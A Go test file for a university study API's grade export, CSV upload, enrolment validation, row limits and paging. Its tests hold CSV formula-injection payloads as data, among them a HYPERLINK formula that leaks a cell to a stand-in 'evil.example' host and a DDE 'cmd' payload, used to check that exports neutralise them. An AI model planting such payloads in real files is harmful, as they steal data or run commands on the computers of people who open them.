package api

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"campus/internal/db/dbtest"
	"campus/internal/study"
	"campus/internal/study/api/spectest"
	"campus/internal/study/store"
	"campus/internal/tokencheck"
)

// tokens stands in for identity's signature check: each token is a
// caller's claims.
type tokens map[string]*tokencheck.Claims

func (t tokens) Verify(_ context.Context, raw string) (*tokencheck.Claims, error) {
	if c, ok := t[raw]; ok {
		return c, nil
	}
	return nil, errors.New("unknown token")
}

// staffToken is a grader's token (a JWT has two dots).
const staffToken = "staff.token.x"

const graderSub = "0190f3a4-8b1c-7d2e-9f00-00000000000a"

// testAPI is the study API over a fresh SQLite store, with people the
// given checker knows.
type testAPI struct {
	t     testing.TB
	h     http.Handler
	store *store.Store
	c     study.Programme
	lec   study.Lecture
}

func newTestAPI(t testing.TB, people People) *testAPI {
	t.Helper()
	st := store.New(dbtest.SQLite(t, store.Migrations), time.Now)
	h, err := NewServer(Deps{
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)),
		Issuer: "https://id.uni.example",
		Store:  st,
		JWT:    tokens{staffToken: {Subject: graderSub, ClientID: "portal", Scopes: []string{"grades:read", "grades:write"}, Roles: []string{"staff"}}},
		People: people,
		Now:    time.Now,
	})
	if err != nil {
		t.Fatal(err)
	}
	a := &testAPI{t: t, h: h, store: st}
	ctx := context.Background()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	a.c, err = st.CreateProgramme(ctx, study.Programme{Title: "B.Sc. Computer Science", Degree: "B.Sc.", Semesters: 6, CreditsRequired: 180, Language: "en", Status: study.ProgrammePublished})
	must(err)
	m, err := st.CreateModule(ctx, study.Module{Code: "INF-101", Title: "Programming", Credits: 10})
	must(err)
	a.lec, err = st.CreateLecture(ctx, study.Lecture{Code: "L-1", Title: "Programming I", HoursPerWeek: 4})
	must(err)
	_, err = st.LinkLecture(ctx, m.ID, a.lec.ID)
	must(err)
	_, err = st.LinkModule(ctx, study.ProgrammeModule{ProgrammeID: a.c.ID, ModuleID: m.ID, Compulsory: true, RecommendedSemester: 1})
	must(err)
	return a
}

// do sends a request as staff and checks the exchange against the spec.
func (a *testAPI) do(method, path, contentType, body string) (*http.Response, string) {
	a.t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req := httptest.NewRequest(method, path, rd)
	if body != "" {
		req.Header.Set("Content-Type", contentType)
	}
	req.Header.Set("Authorization", "Bearer "+staffToken)
	resp, raw := spectest.Validator(a.t).Do(a.t, a.h, req)
	return resp, string(raw)
}

// enrolDirectly enrols subject through the store, as data from before
// subjects were checked may have done.
func (a *testAPI) enrolDirectly(subject string) {
	a.t.Helper()
	if _, err := a.store.Enrol(context.Background(), study.Enrolment{Subject: subject, ProgrammeID: a.c.ID}, false); err != nil {
		a.t.Fatal(err)
	}
}

// TestExportNeutralisesFormulas: a subject that a spreadsheet would run
// as a formula is exported as text (OWASP: a single quote before it, the
// cell quoted); other values are exported exactly as before.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	a := newTestAPI(t, nil)
	evil := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"}
	plain := "0190f3a4-8b1c-7d2e-9f00-000000000001"
	for _, s := range append(evil, plain) {
		a.enrolDirectly(s)
		if _, err := a.store.AddGrade(context.Background(), study.GradeRecord{Subject: s, LectureID: a.lec.ID, Grade: 13,
			Date: time.Date(2026, 2, 14, 0, 0, 0, 0, time.UTC), Grader: graderSub, Status: study.GradeFinal}); err != nil {
			t.Fatal(err)
		}
	}
	resp, raw := a.do("GET", "/v1/grades/export?lecture_id="+a.lec.ID, "", "")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: %d %s", resp.StatusCode, raw)
	}
	for _, s := range evil {
		want := `"'` + strings.ReplaceAll(s, `"`, `""`) + `"`
		if !strings.Contains(raw, ","+want+",") {
			t.Errorf("export does not neutralise %q as %s:\n%s", s, want, raw)
		}
	}
	// Legitimate values are unchanged: ids, the grade, the date, the
	// status, the grader.
	if !strings.Contains(raw, ","+plain+","+a.lec.ID+",,1,1.3,2026-02-14,final,"+graderSub+"\n") {
		t.Errorf("a plain row changed:\n%s", raw)
	}
	if !strings.HasPrefix(raw, "id,subject,lecture_id,module_id,attempt,grade,graded_on,status,grader\n") {
		t.Errorf("header: %q", raw[:min(len(raw), 80)])
	}
}

// TestUploadReadsNeutralisedCells: a file written by the export (or by
// any tool that neutralises the same way) reads back as the values.
func TestUploadReadsNeutralisedCells(t *testing.T) {
	t.Parallel()
	in := "subject,grade,status\n\"'=cmd|' /C calc'!A0\",1.3,final\n\"'-ana\",'-1.0,final\n'bob,2.0,final\n"
	rows, refused, err := parseGradeCSV([]byte(in), graderSub, "lecture-1")
	if err != nil || len(refused) != 1 || len(rows) != 2 {
		t.Fatalf("rows %+v refused %+v err %v", rows, refused, err)
	}
	if got := rows[0].Record.Subject; got != "=cmd|' /C calc'!A0" {
		t.Errorf("subject read back as %q", got)
	}
	// The prefix is taken off a neutralised cell only: a grade "-1.0" is
	// still off the scale, and a name with a leading quote keeps it.
	if refused[0].Line != 3 || !strings.Contains(refused[0].Reason, "scale") {
		t.Errorf("refused %+v", refused)
	}
	if got := rows[1].Record.Subject; got != "'bob" {
		t.Errorf("subject %q, want 'bob", got)
	}
}

// knownPeople is identity as the API sees it: these ids exist; err, when
// set, is every answer.
type knownPeople struct {
	ids   map[string]bool
	err   error
	asked int
}

func (k *knownPeople) Unknown(_ context.Context, ids []string) ([]string, error) {
	k.asked++
	if k.err != nil {
		return nil, k.err
	}
	var out []string
	for _, id := range ids {
		if !k.ids[id] {
			out = append(out, id)
		}
	}
	return out, nil
}

// TestEnrolChecksSubjects: staff enrol only people identity knows; a
// subject that cannot be checked is refused, never taken on trust.
func TestEnrolChecksSubjects(t *testing.T) {
	t.Parallel()
	const ada = "0190f3a4-8b1c-7d2e-9f00-0000000000ad"
	const nobody = "0190f3a4-8b1c-7d2e-9f00-00000000dead"
	tests := []struct {
		name    string
		people  People
		subject string
		status  int
		want    string // part of the answer
		asked   bool   // identity was asked
	}{
		{name: "a person identity knows", people: &knownPeople{ids: map[string]bool{ada: true}}, subject: ada, status: 201, want: ada, asked: true},
		{name: "a formula", people: &knownPeople{}, subject: `=HYPERLINK("https://evil.example","x")`, status: 422, want: `"field":"subject"`},
		{name: "an id in another form", people: &knownPeople{ids: map[string]bool{ada: true}}, subject: strings.ToUpper(ada), status: 422, want: `"field":"subject"`},
		{name: "empty", people: &knownPeople{}, subject: "", status: 422, want: `"field":"subject"`},
		{name: "a well-formed id identity does not know", people: &knownPeople{}, subject: nobody, status: 422, want: "no person with this subject id", asked: true},
		{name: "identity unreachable", people: &knownPeople{err: errors.New("connection refused")}, subject: ada, status: 503, want: "cannot be reached", asked: true},
		{name: "no client credentials to ask with", people: nil, subject: ada, status: 503, want: "client credentials"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := newTestAPI(t, tt.people)
			resp, raw := a.do("POST", "/v1/enrolments", "application/json", `{"subject":`+jsonString(tt.subject)+`,"programme_id":"`+a.c.ID+`"}`)
			if resp.StatusCode != tt.status || !strings.Contains(raw, tt.want) {
				t.Fatalf("status %d %s, want %d with %q", resp.StatusCode, raw, tt.status, tt.want)
			}
			if k, ok := tt.people.(*knownPeople); ok && (k.asked > 0) != tt.asked {
				t.Errorf("identity asked %d times", k.asked)
			}
			if tt.status != 201 {
				if items, _, _ := a.store.Enrolments(context.Background(), store.EnrolmentQuery{}); len(items) != 0 {
					t.Errorf("stored %+v", items)
				}
			}
		})
	}
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestUploadRowLimit: an upload has at most MaxUploadRows rows (blank
// lines aside); one more is refused as a whole, naming the limit, before
// anything is checked against the store.
func TestUploadRowLimit(t *testing.T) {
	t.Parallel()
	a := newTestAPI(t, nil)
	file := func(rows int) string {
		var b strings.Builder
		b.WriteString("subject,grade\n")
		for i := range rows {
			fmt.Fprintf(&b, "0190f3a4-8b1c-7d2e-9f00-%012d,1.3\n\n", i)
		}
		return b.String()
	}
	resp, raw := a.do("POST", "/v1/lectures/"+a.lec.ID+"/grades/upload", "text/csv", file(MaxUploadRows))
	if resp.StatusCode != http.StatusOK || !strings.Contains(raw, fmt.Sprintf(`"refused":%d`, MaxUploadRows)) {
		t.Fatalf("%d rows: %d %.200s", MaxUploadRows, resp.StatusCode, raw)
	}
	for _, dry := range []string{"true", "false"} {
		resp, raw = a.do("POST", "/v1/lectures/"+a.lec.ID+"/grades/upload?dry_run="+dry, "text/csv", file(MaxUploadRows+1))
		var prob struct {
			Detail  string `json:"detail"`
			MaxRows int    `json:"max_rows"`
		}
		json.Unmarshal([]byte(raw), &prob)
		if resp.StatusCode != http.StatusRequestEntityTooLarge || prob.MaxRows != MaxUploadRows || !strings.Contains(prob.Detail, "5000 rows") {
			t.Fatalf("%d rows, dry_run=%s: %d %s", MaxUploadRows+1, dry, resp.StatusCode, raw)
		}
	}
}

// BenchmarkUploadCheck is the dry run of the largest upload through the
// API: reading the file and checking every row against the store (5,000
// enrolled people, no grades yet).
//
//	go test -run '^$' -bench UploadCheck -benchtime 20x ./internal/study/api
func BenchmarkUploadCheck(b *testing.B) {
	a := newTestAPI(b, nil)
	var f strings.Builder
	f.WriteString("subject;grade;status\n")
	for i := range MaxUploadRows {
		sub := fmt.Sprintf("0190f3a4-8b1c-7d2e-9f00-%012d", i)
		a.enrolDirectly(sub)
		fmt.Fprintf(&f, "%s;1,3;final\n", sub)
	}
	body := f.String()
	for b.Loop() {
		req := httptest.NewRequest("POST", "/v1/lectures/"+a.lec.ID+"/grades/upload", strings.NewReader(body))
		req.Header.Set("Content-Type", "text/csv")
		req.Header.Set("Authorization", "Bearer "+staffToken)
		rec := httptest.NewRecorder()
		a.h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), fmt.Sprintf(`"accepted":%d`, MaxUploadRows)) {
			b.Fatalf("%d %.300s", rec.Code, rec.Body.String())
		}
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/1000/float64(b.N), "ms/upload")
}

// TestMyEnrolmentsPaged: a person's own enrolments come a page at a time
// with next_cursor, never cut off silently (they were cut at 200).
func TestMyEnrolmentsPaged(t *testing.T) {
	t.Parallel()
	a := newTestAPI(t, nil)
	ctx := context.Background()
	const n = 7
	want := map[string]bool{}
	for i := range n {
		p, err := a.store.CreateProgramme(ctx, study.Programme{Title: fmt.Sprintf("P%d", i), Degree: "B.Sc.", Semesters: 6,
			CreditsRequired: 180, Language: "en", Status: study.ProgrammePublished})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := a.store.Enrol(ctx, study.Enrolment{Subject: graderSub, ProgrammeID: p.ID}, false); err != nil {
			t.Fatal(err)
		}
		want[p.ID] = true
	}
	got := map[string]bool{}
	pages := 0
	for path := "/v1/me/enrolments?limit=3"; path != ""; pages++ {
		resp, raw := a.do("GET", path, "", "")
		var body struct {
			Items []struct {
				ProgrammeID string `json:"programme_id"`
			} `json:"items"`
			NextCursor string `json:"next_cursor"`
		}
		if resp.StatusCode != http.StatusOK || json.Unmarshal([]byte(raw), &body) != nil || len(body.Items) > 3 {
			t.Fatalf("GET %s: %d %s", path, resp.StatusCode, raw)
		}
		for _, it := range body.Items {
			got[it.ProgrammeID] = true
		}
		path = ""
		if body.NextCursor != "" {
			path = "/v1/me/enrolments?limit=3&cursor=" + url.QueryEscape(body.NextCursor)
		}
	}
	if len(got) != n || pages != 3 {
		t.Fatalf("%d enrolments in %d pages, want %d in 3: %v", len(got), pages, n, got)
	}
	if resp, raw := a.do("GET", "/v1/me/enrolments?limit=0", "", ""); resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("limit=0: %d %s", resp.StatusCode, raw)
	}
}
